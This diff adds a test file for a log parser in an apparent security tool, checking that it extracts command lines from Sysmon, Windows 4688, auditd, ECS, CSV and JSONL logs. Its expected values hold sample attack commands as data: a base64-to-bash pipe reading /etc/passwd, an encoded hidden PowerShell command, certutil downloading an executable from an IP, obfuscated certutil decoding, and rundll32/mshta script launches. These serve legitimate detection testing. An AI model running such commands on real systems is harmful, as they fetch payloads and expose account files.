@@ -1,0 +1,376 @@
+"""Command lines out of log formats: every format, malformed input counted (never fatal), detection, follow."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import os
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from sectune.errors import SectuneError
+from sectune.tasks.cmdline.logs import (
+    FORMATS,
+    ScanCounts,
+    detect_format,
+    follow_lines,
+    iter_command_lines,
+)
+
+LOGS = Path(__file__).parent / "fixtures" / "logs"
+
+
+def read(name_or_path, fmt="auto", field=None, **kw):
+    stats = ScanCounts()
+    path = name_or_path if isinstance(name_or_path, Path) else LOGS / name_or_path
+    lines = list(iter_command_lines(path, fmt, field, stats, **kw))
+    return lines, stats
+
+
+def wait_for(condition, timeout=5.0):
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if condition():
+            return True
+        time.sleep(0.01)
+    return condition()
+
+
+# --- auto-detection -------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name, expected", [
+    ("process.jsonl", "jsonl"),
+    ("nested.jsonl", "jsonl"),
+    ("processes.csv", "csv"),
+    ("ecs.ndjson", "ecs"),
+    ("sysmon_lines.xml", "sysmon-xml"),
+    ("sysmon_doc.xml", "sysmon-xml"),
+    ("winlogbeat.ndjson", "sysmon-json"),
+    ("getwinevent.json", "sysmon-json"),
+    ("security_4688.txt", "win4688"),
+    ("security_4688.xml", "win4688"),
+    ("audit.log", "auditd"),
+    ("commands.txt", "text"),
+])
+def test_auto_detection_of_each_fixture(name, expected):
+    first = (LOGS / name).read_text(encoding="utf-8").splitlines()[:40]
+    assert detect_format(first, LOGS / name) == expected
+    _, stats = read(name)
+    assert stats.format == expected
+
+
+def test_detection_rules_beyond_the_fixtures():
+    # content wins over a misleading name, except .csv; .gz is looked through
+    assert detect_format(['{"cmd": "ls"}'], "x.log.gz") == "jsonl"
+    assert detect_format(["anything"], "x.csv.gz") == "csv"
+    # a CSV header with a command-line column, whatever the name
+    assert detect_format(["Timestamp,DeviceName,ProcessCommandLine", "a,b,c"], "export.txt") == "csv"
+    # a first malformed line does not hide JSON lines
+    assert detect_format(["garbage", '{"a": 1}', '{"a": 2}'], "x") == "jsonl"
+    # auditd with syslog prefixes / journald numeric types
+    assert detect_format(["Nov 14 web01 audit: type=1309 audit(1700000000.1:5): argc=1 a0=\"ls\""], "messages") == "auditd"
+    # empty sample: by name
+    assert detect_format([], "x.ndjson") == "jsonl"
+    assert detect_format(["", "  "], "x.xml") == "sysmon-xml"
+    assert detect_format(["ls -la", "cmd"], None) == "text"
+
+
+# --- JSONL ------------------------------------------------------------------------------------------------------
+
+def test_jsonl_with_a_field_counts_malformed_lines():
+    lines, stats = read("process.jsonl", field="cmd")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (1, "ls -la /var/www"),
+        (2, "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"),
+        (7, "ps aux --sort=-%mem"),
+    ]
+    assert lines[1].extra == {"host": "web01", "user": "bob"}
+    assert (stats.lines_read, stats.events, stats.unparseable, stats.skipped_no_command_line) == (7, 3, 2, 1)
+    assert [ln for ln, _ in stats.examples] == [4, 6]
+    assert "malformed JSON" in stats.examples[0][1] and stats.examples[1][1] == "not a JSON object"
+    assert stats.skipped_examples == [(5, "no field 'cmd'")]
+    # without --field the usual command-line keys are tried ("cmd" is one)
+    assert [ln.command_line for ln in read("process.jsonl")[0]] == [ln.command_line for ln in lines]
+
+
+def test_jsonl_with_a_dotted_field():
+    lines, stats = read("nested.jsonl", field="event.proc.cmdline")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (1, "whoami /all"), (2, 'cmd.exe /c "echo a, b"'), (3, "flat dotted key")]
+    assert lines[0].extra == {"host": "ws01", "time": "2023-11-14T22:13:20Z"}
+    assert stats.skipped_no_command_line == 1 and stats.skipped_examples[0][0] == 4
+    # no --field and no known key: nothing yielded, and the reason says to pass --field
+    lines, stats = read("nested.jsonl")
+    assert lines == [] and stats.skipped_no_command_line == 4
+    assert "pass --field" in stats.skipped_examples[0][1]
+
+
+def test_json_array_on_one_line_and_braces_in_strings(tmp_path):
+    path = tmp_path / "events.json"
+    path.write_text('[{"Id": 1, "ProviderName": "Microsoft-Windows-Sysmon", "CommandLine": "echo {[\\"}]"},'
+                    ' {"Id": 3, "ProviderName": "Microsoft-Windows-Sysmon"}, {"Id": 1, "CommandLine": "b\\\\"}]\n')
+    lines, stats = read(path)
+    assert stats.format == "sysmon-json"
+    assert [ln.command_line for ln in lines] == ['echo {["}]', "b\\"]
+    assert stats.skipped_not_process_creation == 1
+
+
+# --- CSV --------------------------------------------------------------------------------------------------------
+
+def test_csv_quoted_commas_quotes_and_newlines():
+    lines, stats = read("processes.csv")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (2, "cmd.exe /c echo hello, world"),
+        (3, "powershell -c \"Write-Host 'a,b'\""),
+        (5, 'cmd.exe /c "echo line one\necho line two"'),
+        (10, "ipconfig /all"),
+    ]
+    assert lines[0].extra == {"host": "WS01", "user": "CORP\\alice", "process": "C:\\Windows\\System32\\cmd.exe",
+                              "time": "2023-11-14 22:13:20"}
+    assert (stats.lines_read, stats.events, stats.unparseable, stats.skipped_no_command_line) == (10, 4, 2, 1)
+    assert stats.examples[0] == (7, "6 fields, the header has 5")
+    assert stats.examples[1][0] == 9 and "malformed CSV" in stats.examples[1][1]
+
+
+def test_csv_field_matching_and_errors(tmp_path):
+    path = tmp_path / "export.csv"
+    path.write_text('Process Command Line,Host\n"a, b",h1\n"unterminated,h2\n')
+    lines, stats = read(path, field="processcommandline")
+    assert [ln.command_line for ln in lines] == ["a, b"] and lines[0].extra == {"host": "h1"}
+    assert stats.examples == [(3, "quoted field never closed")]
+    with pytest.raises(SectuneError, match=r"no column 'nope' \(columns: Process Command Line, Host\)"):
+        read(path, field="nope")
+    path.write_text("a,b\n1,2\n")
+    with pytest.raises(SectuneError, match="pass --field"):
+        read(path)
+
+
+# --- ECS --------------------------------------------------------------------------------------------------------
+
+def test_ecs_command_line_args_and_non_process_events():
+    lines, stats = read("ecs.ndjson")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (1, "curl -s https://example.com/install.sh"),
+        (2, "bash -c 'echo aGk= | base64 -d'"),  # process.args joined with shell quoting
+        (7, 'C:\\Windows\\System32\\cmd.exe /c "echo a b"'),  # Windows quoting for a Windows program
+    ]
+    assert lines[0].extra == {"host": "web01", "user": "alice", "process": "/usr/bin/curl",
+                              "parent_process": "/usr/bin/bash", "time": "2023-11-14T22:13:20.000Z"}
+    assert (stats.skipped_not_process_creation, stats.skipped_no_command_line, stats.unparseable) == (2, 1, 1)
+    assert [ln for ln, _ in stats.skipped_examples] == [3, 4, 5]
+    assert stats.examples[0][0] == 6
+
+
+# --- Sysmon -----------------------------------------------------------------------------------------------------
+
+def test_sysmon_xml_one_event_per_line():
+    lines, stats = read("sysmon_lines.xml")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (1, 'cmd.exe /c "whoami & hostname"'),
+        (2, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
+        (6, "net.exe user /domain"),  # two events on one line
+        (6, "nltest /dclist:corp"),
+    ]
+    assert lines[0].extra == {"host": "WS01.corp.example", "user": "CORP\\alice",
+                              "process": "C:\\Windows\\System32\\cmd.exe", "parent_process": "C:\\Windows\\explorer.exe",
+                              "parent_command_line": "C:\\Windows\\Explorer.EXE",
+                              "time": "2023-11-14T22:13:20.1234567Z", "event_id": 1}
+    assert (stats.lines_read, stats.events, stats.skipped_not_process_creation, stats.unparseable) == (6, 4, 1, 2)
+    assert stats.examples[0][0] == 3 and "malformed XML" in stats.examples[0][1]
+    assert stats.examples[1] == (5, "text outside an <Event> element")
+    assert stats.skipped_examples == [(4, "EventID 5 (Microsoft-Windows-Sysmon)")]
+
+
+def test_sysmon_xml_multi_line_document():
+    lines, stats = read("sysmon_doc.xml")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (3, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)')]
+    assert lines[0].extra["user"] == "CORP\\dave"
+    assert stats.skipped_not_process_creation == 1 and stats.skipped_examples[0][0] == 17
+    assert stats.unparseable == 0  # the <?xml?> declaration and <Events> root are not junk
+
+
+def test_sysmon_json_winlogbeat_style():
+    lines, stats = read("winlogbeat.ndjson")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (1, 'cmd.exe /c "whoami /priv"'),
+        (4, "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe"),
+        (5, 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)'),
+    ]
+    assert lines[0].extra["host"] == "WS01.corp.example" and lines[0].extra["user"] == "CORP\\alice"
+    assert stats.skipped_not_process_creation == 1 and stats.skipped_examples[0] == (2, "EventID 3 (Microsoft-Windows-Sysmon)")
+    assert stats.unparseable == 2 and [ln for ln, _ in stats.examples] == [3, 6]
+    assert stats.examples[1][1] == "no EventID"
+
+
+def test_sysmon_json_get_winevent_pretty_array():
+    lines, stats = read("getwinevent.json")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (2, 'cmd.exe /c "ping -n 1 10.0.0.1 {x}"'), (16, 'wmic process call create "calc [1]"')]
+    assert lines[0].extra["time"] == "2023-11-14T22:13:20.120Z"  # /Date(ms)/ converted
+    assert stats.skipped_not_process_creation == 1 and stats.unparseable == 0
+
+
+# --- Windows 4688 -----------------------------------------------------------------------------------------------
+
+def test_4688_text_export_blocks():
+    lines, stats = read("security_4688.txt")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (2, 'cmd.exe /c "echo hi: there" & whoami'), (61, "powershell -nop -enc SQBFAFgA")]
+    assert lines[0].extra == {"host": "WS01.corp.example", "user": "CORP\\alice",
+                              "process": "C:\\Windows\\System32\\cmd.exe", "parent_process": "C:\\Windows\\explorer.exe",
+                              "time": "2023-11-14T22:13:20.1230000Z", "event_id": 4688}
+    assert stats.skipped_not_process_creation == 1 and stats.skipped_no_command_line == 1
+    assert [ln for ln, _ in stats.skipped_examples] == [42, 101]
+    assert stats.examples == [(1, "text outside an event block (expected 'Event[N]:')")]
+
+
+def test_4688_xml():
+    lines, stats = read("security_4688.xml")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [(2, 'cmd.exe /c "c^e^r^t^u^t^i^l -decode a.b64 a.exe"')]
+    assert lines[0].extra["user"] == "CORP\\alice" and lines[0].extra["event_id"] == 4688
+    assert (stats.skipped_not_process_creation, stats.skipped_no_command_line) == (1, 1)
+    assert stats.examples == [(5, "<Event> element never closed")]
+    # the same file read as sysmon-xml gives the same events: one Windows event reader
+    assert [ln.command_line for ln in read("security_4688.xml", "sysmon-xml")[0]] == [ln.command_line for ln in lines]
+
+
+# --- auditd -----------------------------------------------------------------------------------------------------
+
+def test_auditd_hex_split_args_and_multi_record_events():
+    lines, stats = read("audit.log")
+    assert [(ln.line_no, ln.command_line) for ln in lines] == [
+        (1, "ls '-la /tmp/my dir' /home"),
+        (7, "bash -c 'echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash'"),
+        (14, "cat /etc/passwd"),
+    ]
+    assert lines[0].extra["argv"] == ["ls", "-la /tmp/my dir", "/home"]  # a1 was hex
+    assert lines[0].extra["cwd"] == "/home/alice" and lines[0].extra["process"] == "/usr/bin/ls"
+    assert lines[0].extra["time"] == "2023-11-14T22:13:20.123Z" and lines[0].extra["user"] == "1000"
+    # a2_len=44 + a2[0]/a2[1] on a second EXECVE line, with PATH records in between
+    assert lines[1].extra["argv"][2] == "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"
+    assert lines[2].extra["host"] == "web01"
+    assert stats.skipped_not_process_creation == 1 and stats.skipped_examples[0][0] == 12
+    assert stats.unparseable == 2 and [ln for ln, _ in stats.examples] == [13, 15]
+    assert "argument a2 missing" in stats.examples[1][1]
+
+
+def test_auditd_interpreted_output_is_not_hex_decoded(tmp_path):
+    path = tmp_path / "ausearch.txt"
+    path.write_text("----\ntype=EXECVE msg=audit(11/14/2023 22:13:20.123:456) : argc=2 a0=ls a1=deadbeef\n")
+    lines, stats = read(path)
+    assert stats.format == "auditd" and [ln.command_line for ln in lines] == ["ls deadbeef"]
+    assert stats.unparseable == 0
+
+
+# --- plain text, gzip, stdin, encodings ---------------------------------------------------------------------
+
+def test_plain_text():
+    lines, stats = read("commands.txt")
+    assert [ln.line_no for ln in lines] == [1, 2, 4, 5, 8, 9]
+    assert lines[2].command_line == "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"  # CRLF stripped
+    assert stats.examples == [(7, "binary data (NUL byte)")] and stats.lines_read == 9
+
+
+def test_gzip_input(tmp_path):
+    for name in ("sysmon_lines.xml", "audit.log"):
+        gz = tmp_path / (name + ".gz")
+        gz.write_bytes(gzip.compress((LOGS / name).read_bytes()))
+        got, stats = read(gz)
+        want, want_stats = read(name)
+        assert [(ln.line_no, ln.command_line) for ln in got] == [(ln.line_no, ln.command_line) for ln in want]
+        assert stats.format == want_stats.format and stats.unparseable == want_stats.unparseable
+    bad = tmp_path / "bad.txt.gz"
+    bad.write_bytes(b"not gzip at all")
+    with pytest.raises(SectuneError, match="not a valid gzip file"):
+        read(bad)
+
+
+def test_stdin(monkeypatch):
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO((LOGS / "process.jsonl").read_bytes())))
+    lines, stats = read(Path("-"))
+    assert stats.format == "jsonl" and [ln.line_no for ln in lines] == [1, 2, 7]
+
+
+def test_utf16_and_bad_bytes_are_not_fatal(tmp_path):
+    path = tmp_path / "ps5.txt"
+    path.write_bytes("whoami\r\nnet user\r\n".encode("utf-16"))  # BOM + UTF-16LE, as PowerShell 5 writes
+    assert [ln.command_line for ln in read(path)[0]] == ["whoami", "net user"]
+    path.write_bytes(b"ls \xff\xfe -la\nok\n")
+    lines, stats = read(path)
+    assert [ln.command_line for ln in lines] == ["ls \ufffd\ufffd -la", "ok"] and stats.unparseable == 0
+
+
+def test_usage_errors_are_sectune_errors(tmp_path):
+    with pytest.raises(SectuneError, match="no such file"):
+        read(tmp_path / "missing.log")
+    with pytest.raises(SectuneError, match="unknown log format 'evtx'"):
+        read("commands.txt", "evtx")
+    with pytest.raises(SectuneError, match="--field applies to"):
+        read("commands.txt", "text", field="x")
+    with pytest.raises(SectuneError, match="looks like auditd"):
+        read("audit.log", field="x")
+    assert "auto" in FORMATS and len(FORMATS) == 9
+
+
+# --- follow -----------------------------------------------------------------------------------------------------
+
+def test_follow_lines_appends_partial_lines_truncation_and_rotation(tmp_path):
+    path = tmp_path / "grow.log"
+    path.write_text("a\nb\n")
+    stop, got = threading.Event(), []
+    thread = threading.Thread(target=lambda: got.extend(follow_lines(path, stop, poll=0.02)))
+    thread.start()
+    try:
+        assert wait_for(lambda: got == ["a", "b"])
+        with open(path, "a") as fh:
+            fh.write("c\npart")
+        assert wait_for(lambda: "c" in got)
+        time.sleep(0.1)
+        assert "part" not in got  # an incomplete line waits for its newline
+        with open(path, "a") as fh:
+            fh.write("ial\n")
+        assert wait_for(lambda: "partial" in got)
+        path.write_text("x\n")  # truncated in place (copytruncate)
+        assert wait_for(lambda: "x" in got)
+        os.rename(path, tmp_path / "grow.log.1")  # rotated
+        path.write_text("new\n")
+        assert wait_for(lambda: "new" in got)
+    finally:
+        stop.set()
+        thread.join(5)
+    assert not thread.is_alive()
+    assert got == ["a", "b", "c", "partial", "x", "new"]
+
+
+def test_follow_auditd_emits_an_event_when_the_file_goes_idle(tmp_path):
+    path = tmp_path / "audit.log"
+    path.write_text("")
+    stop, got = threading.Event(), []
+    stats = ScanCounts()
+
+    def run():
+        got.extend(iter_command_lines(path, "auditd", stats=stats, follow=True, stop=stop, poll=0.02))
+
+    thread = threading.Thread(target=run)
+    thread.start()
+    try:
+        with open(path, "a") as fh:
+            fh.write('type=EXECVE msg=audit(1700000000.1:9): argc=2 a0="id" a1="-u"\n')
+        # no EOE, no next serial: the idle flush emits the complete event
+        assert wait_for(lambda: [ln.command_line for ln in got] == ["id -u"])
+    finally:
+        stop.set()
+        thread.join(5)
+    assert not thread.is_alive() and stats.events == 1
+
+
+def test_follow_refuses_gzip(tmp_path):
+    gz = tmp_path / "x.log.gz"
+    gz.write_bytes(gzip.compress(b"ls\n"))
+    with pytest.raises(SectuneError, match="cannot follow a .gz file"):
+        read(gz, follow=True)
